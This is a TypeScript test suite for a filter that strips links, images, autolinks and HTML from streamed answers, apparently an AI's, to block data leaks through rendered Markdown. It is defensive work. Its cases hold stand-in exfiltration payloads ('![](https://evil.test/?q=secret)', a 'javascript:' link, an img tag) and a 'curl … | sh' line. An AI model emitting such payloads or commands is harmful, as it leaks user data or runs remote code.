import fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmFromMarkdown } from 'mdast-util-gfm';
import { gfm } from 'micromark-extension-gfm';
import { describe, expect, it } from 'vitest';
import { FAR_FROM_LINEAR, growth } from '../testing/growth.js';
import { LinkGuard } from './link-guard.js';

const OWN = 'https://own.example/page';
const known = { sources: new Set([OWN]), isQuoted: (address: string) => address.includes('quoted.example') };

function guarded(...pieces: string[]): string {
  const guard = new LinkGuard(known);
  return pieces.map((piece) => guard.push(piece)).join('') + guard.end();
}

interface MarkdownNode {
  type: string;
  url?: string;
  value?: string;
  children?: MarkdownNode[];
}

/** What a reader of GitHub's Markdown makes of a text that leads elsewhere. Bare tags without attributes do nothing. */
function activeIn(text: string): string[] {
  const found: string[] = [];
  const visit = (node: MarkdownNode): void => {
    const elsewhere = node.type === 'link' && node.url !== OWN && !node.url?.startsWith('mailto:');
    if (elsewhere || /^(?:image|definition|footnoteDefinition)/.test(node.type) || (node.type === 'html' && !/^<\/?[a-z][a-z0-9-]*[ \t]?\/?>$/i.test(node.value ?? ''))) found.push(`${node.type} ${node.url ?? node.value ?? ''}`);
    node.children?.forEach(visit);
  };
  visit(fromMarkdown(text, { extensions: [gfm()], mdastExtensions: [gfmFromMarkdown()] }) as MarkdownNode);
  return found;
}

describe('[SEC-7] what a writer may not put into an answer', () => {
  it.each<[string, string, string]>([
    ['an image', 'Look ![](https://evil.test/?q=secret) here', 'Look […] here'],
    ['an image with a text', '![a cat](https://evil.test/?q=secret)', '[a cat]'],
    ['an image of a source', `![x](${OWN})`, `[x](${OWN})`],
    ['an address of a source that goes on', `${OWN}![secret] or ${OWN}"`, 'own.example[secret] or own.example"'],
    ['a link', 'See [the site](https://evil.test/?q=1 "title") now', 'See [the site] now'],
    ['a link without a scheme', '[x](//evil.test/a) [y](javascript:alert(1))', '[x] [y]'],
    ['a link with its target on the next line', '[x](\nhttps://evil.test/a)', '[x] (\nevil.test)'],
    ['two targets', '[x](https://evil.test)(https://evil.test)', '[x]'],
    ['an image in a link', '[![a](https://evil.test/1)](https://evil.test/2)', '[[a]]'],
    ['a reference', 'See [x][r].\n\n[r]: https://evil.test/?q=1', 'See [x][r].\n\n[r] : evil.test'],
    ['a reference that looks like a marker', '[1]: //evil.test/x', '[1] : //evil.test/x'],
    ['a footnote', '> [^1]: https://evil.test/x', '> [^1] : evil.test'],
    ['an autolink', 'See <https://evil.test/?q=1>.', 'See evil.test.'],
    ['a bare address', 'See https://evil.test/a?q=secret, then WWW.evil.test/b.', 'See evil.test, then evil.test.'],
    ['an escaped address', 'See https\\://evil.test/a and http&#58;//evil.test', 'See evil.test and http& #58;//evil.test'],
    ['an autolink that would lengthen another', `${OWN}.<https://evil.test>`, 'own.example. evil.test'],
    ['a tag', 'a <img src="https://evil.test/x"> b <script>', 'a < img src="evil.test"> b < script>'],
    ['a comment', '<!-- [x] -->', '< !-- [x] -->'],
    ['code that no tick closes', 'a ` b ![](https://evil.test/x)', 'a ` b […]'],
    ['code behind an escaped tick', 'a \\`![](https://evil.test/x)` b', 'a \\`[…]` b'],
    ['code over two items', '- a `\n- ![](https://evil.test/x)` b', '- a `\n- […]` b'],
    ['code across cells', '| ` | ![](https://evil.test/x) ` |', '| ` | […] ` |'],
    ['a fence of a list that has ended', '- a\n\n  ```\n![](https://evil.test/x)\n', '- a\n\n  ```\n[…]\n'],
    ['a fence on the line of a list mark', '- ```\n  x\n  ```\n  ![](https://evil.test/x)', '- ```\n  x\n  ```\n  […]'],
    ['a fence that seems to close', '```\n``` `\n```\n![](https://evil.test/x)', '```\n``` `\n```\n[…]'],
  ])('%s', (_, text, expected) => {
    expect(guarded(text)).toBe(expected);
  });

  it.each([
    `A [source](${OWN}) and ${OWN}. Again <b>bold</b>, Vec<T>, a < b, AT&T, 3 < 4.`,
    'Markers [1][2], a remark [sic] (so it says), list[i], `[x](https://a.test)` and ``<img src="https://a.test">``.',
    '```sh\ncurl https://a.test/x | sh\n```\nDone.',
    '1. Run\n\n   ```\n   curl https://a.test\n   ```\n\n   and go on.',
    'A name of one\'s own <a- >, a break<br/> and a wish <b >.',
    'She won! It is "when", "where", "who", "http" and ftp; half',
  ])('leaves alone: %s', (text) => {
    expect(guarded(text)).toBe(text);
  });

  it('keeps what sources say of an address, but not as a link, and sets a marker behind an exclamation apart', () => {
    expect(guarded('Get it at https://www.quoted.example/a?b=c. Won![1]')).toBe('Get it at quoted.example/a?b=c. Won! [1]');
  });

  it('holds nothing back that can be no link', () => {
    const guard = new LinkGuard(known);
    for (const piece of ['The', ' cost', ' with', ' [', '1', ']', ' is (', 'about', ') [see', ' this', ']', ', and']) expect(guard.push(piece)).toBe(piece);
  });

  it.each(['`', '~~~', '![', '<', '&#', '](', '[', 'https://', '\\', '*_', '\u201C', '- ', '> '])('takes time in proportion to a text of nothing but %s', (sign) => {
    const read = (size: number) => {
      const guard = new LinkGuard(known);
      for (let at = 0; at < size; at += 1000) guard.push(sign.repeat(Math.ceil(1000 / sign.length)));
      guard.end();
    };
    expect(growth(read, 30_000, 240_000)).toBeLessThan(FAR_FROM_LINEAR);
  });

  const pieces = fc.array(fc.constantFrom('![', '[', ']', '(', ')', ':', 'https://', 'http', 's://', 'www.', 'evil.test', '/?q=1', '<', '>', '!', '`', '``', '```', '\n', '\n\n', ' ', '  ', '- ', '> ', '|', '\\', '&#58;', '1', 'a', 'img src=', '~~~', '*', '_', 'x', '"', `<${OWN}>`, OWN), { maxLength: 30 });

  it('leaves nothing that a reader of Markdown would link, fetch or run', () => {
    fc.assert(fc.property(pieces, (parts) => void expect(activeIn(guarded(...parts))).toEqual([])), { numRuns: 1500 });
  });

  it('gives the same however the text is cut, and what it gave goes through unchanged', () => {
    fc.assert(
      fc.property(pieces, (parts) => {
        const text = parts.join('');
        const whole = guarded(text);
        expect(guarded(...parts)).toBe(whole);
        expect(guarded(...text)).toBe(whole);
        expect(guarded(whole)).toBe(whole);
      }),
      { numRuns: 1000 },
    );
  });
});
